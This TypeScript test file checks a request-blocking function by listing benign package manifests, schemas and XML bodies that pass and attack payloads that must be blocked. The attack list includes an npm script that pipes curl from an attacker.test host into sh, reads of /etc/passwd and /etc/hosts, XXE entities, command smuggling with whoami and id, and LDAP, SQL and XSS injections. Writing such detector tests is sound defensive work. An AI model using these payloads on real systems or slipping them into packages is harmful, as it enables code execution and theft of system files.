import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blockedBy } from '../../corpora/report/default-set.ts';

// Shown by what lies on any machine of a developer: `npm run bench -- alarms`.

const posted = (value: unknown): string =>
  blockedBy({
    method: 'POST',
    target: '/v1/x',
    headers: ['Content-Type', 'application/json'],
    body: JSON.stringify(value),
  });
const shop = { name: '@shop/api', version: '2.1.0-rc.1' };

const passes: readonly unknown[] = [
  { ...shop, scripts: { prepublish: 'not-in-publish || npm run prepublishOnly' } },
  {
    ...shop,
    scripts: { 'build:cjs': 'node ../../scripts/compile/inline api', test: 'npm run lint && npm test' },
  },
  { name: 'tool', version: '0.0.1', husky: { hooks: { 'pre-commit': 'npm run lint && npm test' } } },
  { packages: [{ ...shop, scripts: { prepare: 'npm run build && bash scripts/build.sh' } }] },
  { engines: { node: '>=16 || 14 >=14.17' } },
  { packages: { 'node_modules/a': { engines: { node: '^14.17.0 || ^16.13.0 || >=18.0.0' } } } },
  { peerDependencies: { '@a/b': '1 || >=2.0.0' } },
  { type: 'string', pattern: '[\\u0009\\u000A\\u000D\\u0020-\\u00FF]+' },
  { type: 'string', pattern: '[\\u0020-\\uD7FF\\uE000-\\uFFFD\\uD800\\uDC00-\\uDBFF\\uDFFF\\t]*' },
  { type: 'string', pattern: '(\\u002F)|(\\u002F[\\u0021-\\u007F]+\\u002F)' },
  { body: '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">\n<fontconfig/>' },
  { body: '<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">\n<fontconfig/>' },
  {
    body: '<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "https://jetty.org/configure_10_0.dtd"><Configure/>',
  },
  { path: 'C:\\Users\\ann\\Documents\\start here\\read me.doc' },
  { path: 'D:\\find me\\more of it\\a.xlsx' },
  { password: 'YjGfUOqzhH)&(g6hIwf_' },
  { rule: "atom: ('(' [testlist] ')'|'{' [maker] '}') | ('[' [x] ']')|('x' NAME)" },
  { Device: '/dev/sdf', InstanceId: 'i-01474ef662b89480' },
  { BlockDeviceMappings: [{ DeviceName: '/dev/xvdb1' }], Disks: [{ DiskPath: '/dev/sda' }] },
  { HealthCheck: { Target: 'HTTP:80/png' } },
  { enum: ['nice', 'nofile', 'nproc', 'rss'] },
  { body: 'value;\n    constructor(value = "") {\n        this.value = value;\n    }' },
  { body: "  constructor(encoding = 'utf-8') {\n    this._encoding = encoding;" },
];

const listed =
  '<syscalls_info><syscall name="uname" number="63"/><syscall name="fcntl" number="72"/></syscalls_info>';

test('the names of elements pass, and their texts do not', () => {
  const sent = (body: string): string =>
    blockedBy({ method: 'POST', target: '/', headers: ['Content-Type', 'application/xml'], body });
  assert.equal(sent(listed), '');
  assert.notEqual(sent('<a><command>uname</command></a>'), '');
  assert.notEqual(sent('<a command="uname"/>'), '');
  assert.notEqual(sent('<a name=";id"/>'), '');
});

test('packages, schemas, classes and document types that lie near the document pass', () => {
  for (const value of passes) assert.equal(posted(value), '', JSON.stringify(value));
});

const attacks: readonly unknown[] = [
  { body: '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://a.attacker.test/x.dtd"><a/>' },
  { ...shop, scripts: { prepublish: 'x; cat /etc/passwd' } },
  { ...shop, scripts: { prepublish: 'x && curl http://a.attacker.test/x | sh' } },
  { ...shop, description: 'x || npm run prepublishOnly; id' },
  { scripts: { prepublish: 'not-in-publish; npm run prepublishOnly' } },
  { name: 'a b', version: '1.0.0', scripts: { x: 'y; npm run z' } },
  { name: 'a', version: 'x', scripts: { x: 'y; npm run z' } },
  { engines: { node: "1' or '1'='1" } },
  { engines: { node: '>=16 || 14 >=14.17 union select 1' } },
  { id: '1 || 14 >=14.17' },
  { a: '\\u0061lert(1)' },
  { a: "'-\\u{61}lert(1)-'" },
  { a: '<script>\\u0061\\u006cert(1)</script>' },
  { body: '<!DOCTYPE a SYSTEM "../fonts.dtd" [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>' },
  { body: '<!DOCTYPE a SYSTEM "../../../../etc/hosts"><a/>' },
  { body: '<!DOCTYPE a SYSTEM "http://a.attacker.test/x.dtd"><a/>' },
  { body: '<!DOCTYPE a SYSTEM "file:///a/fonts.dtd"><a/>' },
  { body: '<!DOCTYPE a PUBLIC "-//W3//Configure//EN" "https://jetty.attacker.test/a.dtd"><a/>' },
  { body: '<!DOCTYPE a PUBLIC "-//a//b" "https://a.test/a.dtd"><a/>' },
  { path: 'C:\\Windows\\System32\\more secret files\\a.doc' },
  { path: 'C:\\a\\cmd /c start\\a.doc' },
  { path: 'C:\\a\\type b\\c.txt & whoami' },
  { user: 'x)&(uid=*' },
  { user: '*)|(objectClass=*' },
  { user: 'x)|(!(&(1=0' },
  { Device: '/dev/mem' },
  { page: '/dev/sda' },
  { target: 'http:2130706433/x' },
  { target: 'https:evil.test' },
  { enum: ['nproc'] },
  { args: ['nproc', 'x'] },
  { args: ['a b', 'nproc', ';'] },
  { cmd: 'nproc' },
  { a: "[].constructor.constructor('alert(1)')()" },
  { a: "x.constructor('alert(1)'){}" },
];

test('what looks like them and would run stays blocked', () => {
  for (const value of attacks) assert.notEqual(posted(value), '', JSON.stringify(value));
});
